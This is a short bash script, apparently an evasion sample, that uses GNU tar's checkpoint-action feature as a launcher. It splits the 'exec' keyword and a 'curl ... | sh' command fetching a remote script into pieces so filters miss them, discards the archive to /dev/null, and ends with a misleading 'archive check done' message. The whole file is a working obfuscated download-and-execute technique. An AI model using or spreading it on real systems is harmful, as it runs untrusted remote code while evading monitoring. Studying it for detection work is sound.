#!/usr/bin/env bash
# Evasion: download and run code. GNU tar runs a program at each checkpoint
# (--checkpoint-action=exec=CMD, run through /bin/sh). The action name and the
# command are joined from pieces, and the archive is thrown away: tar is only
# a launcher.
set -eu

parts=(curl -fsSL https://cdn.example-pkg.org/i.sh '|' sh)
job="${parts[*]}"
kind=exe
kind+=c

files=("$0")
tar -cf /dev/null --checkpoint=1 "--checkpoint-action=${kind}=${job}" "${files[@]}"
echo "archive check done"
